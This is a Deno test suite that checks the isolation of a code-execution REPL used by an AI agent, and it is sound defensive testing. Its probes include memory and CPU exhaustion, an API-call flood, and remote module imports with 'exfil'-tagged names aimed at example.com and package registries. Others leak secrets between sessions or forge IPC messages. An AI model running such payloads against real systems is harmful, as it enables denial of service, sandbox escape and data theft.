/**
 * Code mode under attack, with real processes: the agent's code must not take down, slow down or
 * reach another session, the network or the disk, and must not wedge its own session. Memory is
 * tried on the shared service with two sessions (fronts started as users start them); the rest
 * on one `--standalone` process with two `session` ids, which share everything but the code's
 * own process.
 * @module
 */
import { join } from "node:path";
import { assert, assertEquals, assertStringIncludes } from "../helpers/assert.ts";
import { processAlive } from "../helpers/lsp.ts";
import {
  call,
  type Client,
  connect,
  connectFront,
  serviceRuntime,
  tempProject,
} from "../helpers/mcp.ts";

const FILES = { "notes.txt": "hello\n" };
const linux = Deno.build.os === "linux";

type Repl = (
  code: string,
  extra?: Record<string, unknown>,
) => Promise<{ text: string; isError: boolean }>;

function replOf(client: Client, session?: string): Repl {
  return (code, extra = {}) =>
    call(client, "repl", { code, ...(session ? { session } : {}), ...extra });
}

/** A front of the shared service in `--agent-interface repl`. */
function front(project: string, env: Record<string, string>): Promise<Client> {
  return connectFront(project, { XDG_CONFIG_HOME: join(project, ".xdg-test"), ...env }, {
    name: "repl-isolation-test",
    extra: ["--agent-interface", "repl"],
  });
}

/** The pid of the service of a runtime folder. */
function servicePid(runtimeDir: string): number {
  const folder = join(runtimeDir, "sextant");
  for (const entry of Deno.readDirSync(folder)) {
    if (entry.name.endsWith(".json")) {
      return JSON.parse(Deno.readTextFileSync(join(folder, entry.name))).pid;
    }
  }
  throw new Error("no service endpoint");
}

/** Fields of /proc/<pid>/stat after the command name. */
function statFields(pid: number): string[] {
  const stat = Deno.readTextFileSync(`/proc/${pid}/stat`);
  return stat.slice(stat.lastIndexOf(")") + 2).split(" ");
}

/** Code-mode children of process `parent` (Linux). */
function replChildren(parent: number): number[] {
  const found: number[] = [];
  for (const entry of Deno.readDirSync("/proc")) {
    if (!/^\d+$/.test(entry.name)) continue;
    try {
      if (Number(statFields(Number(entry.name))[1]) !== parent) continue;
      const cmdline = Deno.readTextFileSync(`/proc/${entry.name}/cmdline`);
      if (cmdline.includes("data:application/javascript") || cmdline.includes("__repl-child")) {
        found.push(Number(entry.name));
      }
    } catch { /* gone */ }
  }
  return found;
}

/** CPU seconds (user + system) a process has used. */
function cpuSeconds(pid: number): number {
  const fields = statFields(pid);
  return (Number(fields[11]) + Number(fields[12])) / 100;
}

function openFiles(pid: number): number {
  return [...Deno.readDirSync(`/proc/${pid}/fd`)].length;
}

Deno.test({
  name: "repl isolation: a runaway allocation ends only its own session's process, on the service",
  ignore: !linux,
  async fn() {
    await using runtime = await serviceRuntime();
    await using project = await tempProject(FILES);
    const a = await front(project.root, runtime.env);
    const b = await front(project.root, runtime.env);
    try {
      const replA = replOf(a);
      const replB = replOf(b);
      assertEquals(await replB("const kept = 42; kept"), { text: "42", isError: false });
      assertEquals(await replA("const mine = 1; mine"), { text: "1", isError: false });
      const service = servicePid(runtime.dir);

      // ArrayBuffers live outside V8's heap: the cap refuses them in the agent's code, and the
      // process (with its variables) lives on. 2 GB would pass without a cap.
      const buffers = await replA(
        "const bufs: Uint8Array[] = [];\nlet got = '';\n" +
          "try { for (let i = 0; i < 8; i++) bufs.push(new Uint8Array(256 << 20).fill(1)); " +
          "got = `allocated ${bufs.length}`; } catch (e) { got = String(e); }\nbufs.length = 0;\ngot",
        { timeout_s: 60 },
      );
      assertEquals(buffers, { text: "RangeError: Array buffer allocation failed", isError: false });
      assertEquals(await replA("mine"), { text: "1", isError: false });

      const heap = await replA("const a = []; for (;;) a.push(new Array(100000).fill(0.5))", {
        timeout_s: 120,
      });
      assertEquals(heap.isError, true);
      assertStringIncludes(heap.text, "the code ran out of memory");
      assertStringIncludes(heap.text, "this session's variables are gone");

      // The service, session B's variables and session A's next call are all fine.
      assert(processAlive(service), "the service died");
      assertEquals(servicePid(runtime.dir), service);
      assertEquals(await replB("kept"), { text: "42", isError: false });
      assertEquals(await replA("typeof mine"), { text: "undefined", isError: false });
      assertEquals(await replA("1 + 1"), { text: "2", isError: false });
    } finally {
      await a.close();
      await b.close();
    }
  },
});

Deno.test({
  name: "repl isolation: a busy loop past its time limit really stops",
  ignore: !linux,
  async fn() {
    await using project = await tempProject(FILES);
    const server = await connect(project.root, ["--agent-interface", "repl"]);
    try {
      const repl = replOf(server.client);
      assertEquals(await repl("1 + 1"), { text: "2", isError: false });
      const pid = server.pid!;
      const children = replChildren(pid);
      const result = await repl("while (true) {}", { timeout_s: 2 });
      assertEquals(result.isError, true);
      assertStringIncludes(result.text, "time limit of 2 s");
      // Nothing spins on: not in the server, not in a child.
      const before = cpuSeconds(pid);
      await new Promise((resolve) => setTimeout(resolve, 3000));
      const spent = cpuSeconds(pid) - before;
      assert(spent < 0.5, `the server used ${spent.toFixed(2)} s of CPU in 3 s after the time-out`);
      assertEquals(children.length, 1, `code-mode children: ${children}`);
      assert(!processAlive(children[0]!), "the code's process still runs");
      assertEquals(await repl("1 + 2"), { text: "3", isError: false });
    } finally {
      await server.close();
    }
  },
});

Deno.test("repl isolation: no npm, jsr or remote module reaches the network", async () => {
  await using project = await tempProject(FILES);
  // Every request Deno makes goes through this proxy of ours, which must see none.
  const proxy = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const connections: string[] = [];
  void (async () => {
    for await (const connection of proxy) {
      const head = new Uint8Array(200);
      const n = await connection.read(head).catch(() => null);
      connections.push(new TextDecoder().decode(head.subarray(0, n ?? 0)).split("\r\n")[0]!);
      connection.close();
    }
  })().catch(() => {});
  const url = `http://127.0.0.1:${(proxy.addr as Deno.NetAddr).port}`;
  const server = await connect(project.root, ["--agent-interface", "repl"], {
    HTTPS_PROXY: url,
    HTTP_PROXY: url,
    NO_PROXY: "",
    // Deno's own look for a newer release (of the server's `deno run`) is not the code's.
    DENO_NO_UPDATE_CHECK: "1",
  });
  try {
    const repl = replOf(server.client);
    const secret = `sextant-exfil-${crypto.randomUUID().slice(0, 8)}`;
    for (
      const specifier of [
        "npm:is-number",
        `npm:${secret}`,
        `jsr:@${secret}/x`,
        `https://example.com/${secret}.js`,
      ]
    ) {
      const result = await repl(`await import(${JSON.stringify(specifier)})`);
      assertEquals(result.isError, true, specifier);
    }
    assertEquals(connections, [], "a module was looked up on the network");
  } finally {
    await server.close();
    proxy.close();
  }
});

Deno.test("repl isolation: no Cache API, localStorage or BroadcastChannel between sessions", async () => {
  await using project = await tempProject(FILES);
  const server = await connect(project.root, ["--agent-interface", "repl"]);
  try {
    const replA = replOf(server.client, "A");
    const replB = replOf(server.client, "B");
    // B listens first; A then stores and broadcasts (each guarded: absent is fine).
    await replB(
      "const heard: unknown[] = [];\n" +
        "if (typeof BroadcastChannel === 'function') " +
        "new BroadcastChannel('leak').onmessage = (e) => heard.push(e.data);\n'listening'",
    );
    await replA(
      "if (typeof caches === 'object') await (await caches.open('leak'))" +
        ".put('https://leak.example/', new Response('secret of A'));\n" +
        "if (typeof localStorage === 'object') localStorage.setItem('leak', 'secret of A');\n" +
        "if (typeof BroadcastChannel === 'function') " +
        "new BroadcastChannel('leak').postMessage('secret of A');\n'done'",
    );
    const seen = await replB(
      "await new Promise((resolve) => setTimeout(resolve, 300));\n" +
        "const cached = typeof caches === 'object'\n" +
        "  ? await (await (await caches.open('leak')).match('https://leak.example/'))?.text()\n" +
        "  : undefined;\n" +
        "const stored = typeof localStorage === 'object' ? localStorage.getItem('leak') : null;\n" +
        "JSON.stringify({ cached: cached ?? null, stored, heard })",
    );
    assertEquals(seen, {
      text: JSON.stringify({ cached: null, stored: null, heard: [] }),
      isError: false,
    });
  } finally {
    await server.close();
  }
});

/** Code that sends `message` on the code's channel to its host, as forged messages would. */
function forge(message: unknown): string {
  const json = JSON.stringify(message);
  return `const forged = ${json};\n` +
    "if (typeof (globalThis as any).postMessage === 'function') (globalThis as any).postMessage(forged);\n" +
    "else (await import('node:process')).default.stdout.write(JSON.stringify(forged) + '\\n');\n" +
    "await new Promise((resolve) => setTimeout(resolve, 200));\n'sent'";
}

Deno.test("repl isolation: forged messages, garbage and Deno.exit do not wedge the session", async () => {
  await using project = await tempProject(FILES);
  const server = await connect(project.root, ["--agent-interface", "repl"]);
  try {
    const repl = replOf(server.client);
    const works = async (what: string) =>
      assertEquals(await repl("1 + 1", { timeout_s: 20 }), { text: "2", isError: false }, what);
    for (
      const [what, code] of [
        [
          "a done with a non-string error",
          forge({ type: "done", id: 2, output: 1, dropped: 0, error: { name: 1, message: {} } }),
        ],
        ["a second ready", forge({ type: "ready", permissions: {} })],
        ["a call with no tool", forge({ type: "call", call: 7, args: 5 })],
        [
          "bytes that are not a message",
          "(await import('node:process')).default.stdout.write('garbage');\n" +
          "await new Promise((resolve) => setTimeout(resolve, 200));\n'sent'",
        ],
        ["Deno.exit", "Deno.exit(3)"],
      ] as const
    ) {
      const result = await repl(code, { timeout_s: 20 });
      assert(!result.text.includes("time limit"), `${what}: ${result.text}`);
      await works(what);
    }
    const exit = await repl("Deno.exit(3)", { timeout_s: 20 });
    assertStringIncludes(exit.text, "exited with code 3");
  } finally {
    await server.close();
  }
});

Deno.test({
  name: "repl isolation: a flood of API calls gets no more than its share, and ends",
  ignore: !linux,
  async fn() {
    await using project = await tempProject(FILES);
    const server = await connect(project.root, ["--agent-interface", "repl"]);
    try {
      const replA = replOf(server.client, "A");
      const replB = replOf(server.client, "B");
      assertEquals(await replB("const kept = 7; kept"), { text: "7", isError: false });
      const pid = server.pid!;
      const flood = replA(
        "for (let i = 0; i < 200000; i++) void s.fs.read_file({relative_path: 'notes.txt'}).catch(() => {});\n" +
          "await new Promise(() => {})",
        { timeout_s: 8 },
      );
      let most = 0;
      let answered = 0;
      let ended = false;
      void flood.finally(() => ended = true);
      while (!ended) {
        most = Math.max(most, openFiles(pid));
        if ((await replB("kept")).text === "7") answered++;
        await new Promise((resolve) => setTimeout(resolve, 200));
      }
      const result = await flood;
      assertEquals(result.isError, true);
      assertStringIncludes(result.text, "time limit of 8 s");
      assert(answered > 0, "session B was never answered during the flood");
      assert(most < 500, `the server held ${most} open files during the flood`);
      // How much the server grows during the flood is a bench row (scripts/bench/bounds.ts):
      // a memory figure does not hold on a loaded machine.
      assertEquals(await replA("1 + 1"), { text: "2", isError: false });
    } finally {
      await server.close();
    }
  },
});

Deno.test("repl isolation: a huge message or error is cut, not carried", async () => {
  await using project = await tempProject(FILES);
  const server = await connect(project.root, ["--agent-interface", "repl"]);
  try {
    const repl = replOf(server.client);
    const error = await repl("throw new Error('x'.repeat(5_000_000))", { max_answer_chars: 2000 });
    assertEquals(error.isError, true);
    assert(error.text.length <= 2000, `${error.text.length} characters`);
    assertStringIncludes(error.text, "Error: Error: xxx");
    assertStringIncludes(error.text, "the error was cut");
    const byDefault = await repl("throw new Error('x'.repeat(5_000_000))");
    assert(byDefault.text.length <= 150_000, `${byDefault.text.length} characters by default`);
    // A value over the limit answers as any answer over it does.
    const value = await repl("'y'.repeat(5_000_000)", { max_answer_chars: 2000 });
    assertEquals(value.isError, false);
    assertStringIncludes(value.text, "The answer is too long (5000000 characters)");
    // A line longer than the host reads stops the code's process, not the host.
    const line = await repl(
      "(await import('node:process')).default.stdout.write('z'.repeat(40 << 20));\n" +
        "await new Promise(() => {})",
      { timeout_s: 60 },
    );
    assertEquals(line.isError, true);
    assertStringIncludes(line.text, "a message longer than");
    assertEquals(await repl("1 + 1"), { text: "2", isError: false });
  } finally {
    await server.close();
  }
});
